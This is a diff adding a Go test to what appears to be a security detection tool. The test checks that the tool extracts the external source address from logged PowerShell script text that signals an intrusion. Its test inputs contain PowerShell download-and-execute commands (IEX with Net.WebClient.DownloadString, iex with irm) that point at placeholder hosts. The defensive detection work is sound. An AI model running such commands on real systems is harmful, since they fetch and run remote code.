@@ -271,3 +271,24 @@ func TestAuditNamesClient(t *testing.T) {
 		t.Errorf("%+v", got.From)
 	}
 }
+
+// TestScriptFetched: the address that a script was fetched from is where it came from; one inside is none.
+func TestScriptFetched(t *testing.T) {
+	for _, c := range []struct{ text, want string }{
+		{"IEX (New-Object Net.WebClient).DownloadString('http://198.18.0.7/a')", "198.18.0.7"},
+		{"iex (irm http://198.18.0.7:8080/a); irm http://10.1.1.1/b", "198.18.0.7"},
+		{"iex (irm http://10.1.1.1/a)", ""},
+	} {
+		w := newWorld("TS")
+		w.find("TS", "script fetched", hour(1), "ScriptBlockText", c.text)
+		w.find("TS", "protection off", hour(2))
+		got := w.judge()["TS"]
+		address := ""
+		if len(got.From) > 0 && got.From[0].Address != nil {
+			address = *got.From[0].Address
+		}
+		if got.Verdict != event.Infiltrated || len(got.From) > 1 || address != c.want {
+			t.Errorf("%q: %s from %+v", c.text, got.Verdict, got.From)
+		}
+	}
+}
